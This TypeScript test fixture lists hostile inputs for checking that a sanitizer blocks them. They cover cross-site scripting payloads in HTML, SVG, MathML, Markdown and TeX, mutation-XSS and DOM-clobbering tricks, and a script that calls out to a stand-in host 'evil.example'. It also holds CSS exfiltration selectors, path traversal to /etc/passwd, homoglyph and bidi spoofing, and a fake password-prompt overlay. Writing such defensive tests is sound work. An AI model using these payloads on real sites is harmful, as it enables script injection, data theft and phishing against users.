/**
 * What strangers put where HTML lets scripts in, and what asks for something, leads somewhere or looks like something
 * else. `MARK` in any of them tells when it got through. To add one, add a line.
 */
export const MARK = 'pwned-by-a-stranger'
const EVIL = 'https://evil.example/'
const RUN = `window.__pwned=1,document.title='${MARK}',fetch('${EVIL}f')`

const SCRIPTS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<script src="${EVIL}a.js"></script>`,
  `<SCRIPT type=module>${RUN}</SCRIPT >`,
  `<img src=x onerror="${RUN}">`,
  `<img src="x" onload=${RUN} onerror=${RUN}>`,
  `<svg onload="${RUN}"></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></iframe></foreignObject></svg>`,
  `<svg><style><img src=x onerror="${RUN}"></style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${RUN}">x</math><math><maction actiontype="statusline" xlink:href="javascript:${RUN}">x</maction></math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror="${RUN}"></annotation-xml></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<template><img src=x onerror="${RUN}"></template>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<embed src="javascript:${RUN}"><applet code=x></applet>`,
  `<details open ontoggle="${RUN}">x</details>`,
  `<body onload="${RUN}"><marquee onstart="${RUN}">x</marquee>`,
  `<input autofocus onfocus="${RUN}"><select autofocus onfocus="${RUN}"></select><textarea autofocus onfocus="${RUN}">`,
  `<video><source onerror="${RUN}"></video><audio src=x onerror="${RUN}"></audio>`,
  `<div style="animation-name:x" onanimationstart="${RUN}" onpointerover="${RUN}" onclick="${RUN}">x</div>`,
  `<a href="javascript:${RUN}">one</a><a href="java&#x09;script:${RUN}">two</a><a href=" javascript&colon;${RUN}">three</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">four</a><a href="vbscript:x">five</a><a href="blob:x">six</a>`,
  `<button formaction="javascript:${RUN}">x</button><form action="javascript:${RUN}"><input type=submit></form>`,
  `<isindex type=image src=1 onerror="${RUN}"><xmp><img src=x onerror="${RUN}"></xmp>`,
  `<!--><img src=x onerror="${RUN}">--><!--[if IE]><script>${RUN}</script><![endif]-->`,
  `<p title='"><img src=x onerror="${RUN}">'>"><img src=x onerror='${RUN}'></p>`,
  `<a name=body><a id=documentElement><form id=attributes><input name=nodeName><img name=getElementById>`,
  `<b onclick=${RUN} constructor=x __proto__=y>x</b><x-y is="p" onclick=${RUN}>x</x-y>`,
]

const REQUESTS: readonly string[] = [
  `<img src="${EVIL}i.png"><img srcset="${EVIL}s.png 2x"><picture><source srcset="${EVIL}p.png"><img></picture>`,
  `<img src="//evil.example/j.png"><img src="\\\\evil.example\\k.png"><img lowsrc="${EVIL}l.png" dynsrc="${EVIL}d.png">`,
  `<video src="${EVIL}v.mp4" poster="${EVIL}v.png" autoplay></video><audio src="${EVIL}a.mp3" autoplay></audio>`,
  `<track src="${EVIL}t.vtt"><embed src="${EVIL}e.swf"><object data="${EVIL}o.pdf"></object>`,
  `<link rel=stylesheet href="${EVIL}l.css"><link rel=prefetch href="${EVIL}p"><link rel=dns-prefetch href="//evil.example">`,
  `<link rel=preconnect href="${EVIL}"><link rel=modulepreload href="${EVIL}m.js"><link rel=manifest href="${EVIL}m">`,
  `<meta http-equiv=refresh content="0;url=${EVIL}"><meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href="${EVIL}"><a href="x" ping="${EVIL}ping">x</a><img src=relative.png>`,
  `<iframe src="${EVIL}"></iframe><frame src="${EVIL}"><frameset onload="${RUN}"></frameset><portal src="${EVIL}"></portal>`,
  `<style>@import "${EVIL}i.css"; *{background:url(${EVIL}b.png)}</style><style>@im@import;port url(${EVIL}j.css);</style>`,
  `<style>@font-face{font-family:x;src:url(${EVIL}f.woff2)} *{font-family:x} input[value^=a]{background:url(${EVIL}?a)}</style>`,
  `<div style="background:url(${EVIL}s.png);list-style:url(${EVIL}l.png)">x</div><table background="${EVIL}t.png"><td>x</table>`,
  `<div style="background:u\\72l(${EVIL}c.png);-webkit-mask:image-set('${EVIL}m.png' 1x);cursor:url(${EVIL}c.cur),auto">x</div>`,
  `<svg><image href="${EVIL}i.svg"/><feImage href="${EVIL}f.png"/><use href="${EVIL}u.svg#x"/></svg>`,
  `<math><mglyph src="${EVIL}g.png"></mglyph></math><input type=image src="${EVIL}n.png"><body background="${EVIL}b.png">`,
  `[sound:${EVIL}s.mp3][sound:../../../etc/passwd]<img src="../../../../secret.png"><img src="file:///etc/passwd">`,
]

const LOOKS: readonly string[] = [
  '<div style="position:fixed;inset:0;z-index:99999;background:white">Your data is gone. Type your password.</div>',
  '\u202Egnp.exe\u202C \u2066evil\u2069 \u200B\uFEFF A\u0300\u0300\u0300\u0300',
  '<a href="https://раураl.com/">paypal.com</a><a href="https://paypal.com@evil.example/">paypal.com</a>',
  '{{#Front}}{{/Front}} {{__proto__}} {{constructor}} {{type:x}} {{hint:y}}'.replaceAll('{{', '{ {'),
  'constructor __proto__ toString valueOf hasOwnProperty',
  '<dialog open>x</dialog><div popover>x</div><plaintext>',
]

/** Each by itself, as many of them would swallow what comes after. */
export const PAYLOADS: readonly string[] = [...SCRIPTS, ...REQUESTS, ...LOOKS]

/** What a text says in Markdown and TeX. */
export const TEXTS: readonly string[] = [
  `[x](javascript:${RUN}) [y](data:text/html,<script>${RUN}</script>) [z](vbscript:x) <javascript:${RUN}>`,
  `![i](${EVIL}i.png) ![j](data:image/svg+xml,<svg onload=${RUN}>) ![k](media:../../x) ![l](media:${'a'.repeat(32)})`,
  `\\(\\href{javascript:${RUN}}{x}\\) \\(\\url{${EVIL}}\\) \\(\\includegraphics{${EVIL}t.png}\\) \\(\\htmlClass{x}{y}\\)`,
  '\\(\\def\\a{\\a\\a}\\a\\) $$\\rule{9999em}{9999em}$$ \\[\\unknown{\\]',
  `[paypal.com](https://paypal.com@evil.example/) [safe](https://раураl.com/) <https://evil.example/auto>`,
  '**'.repeat(300) + '['.repeat(300) + '`'.repeat(99),
]

/** A style sheet that tries to read, to fetch and to cover. */
export const CSS = `@import "${EVIL}i.css"; @im@import;port url("${EVIL}j.css"); @charset "x"; @namespace x url(${EVIL}n);
  @font-face { font-family: x; src: url(${EVIL}f.woff2) } .card { background: url(${EVIL}c.png) }
  .card::after { content: url(${EVIL}a.png); position: fixed; inset: 0 } html, body, #qa { background: u\\72l("${EVIL}u.png") }
  .card { background-image: -webkit-image-set("${EVIL}s.png" 1x); behavior: url(x.htc); -moz-binding: url(${EVIL}b.xml) }
  .card[data-x^="a"] { --x: url(${EVIL}v.png); background: var(--x) } } </style><script>${RUN}</script><style>`
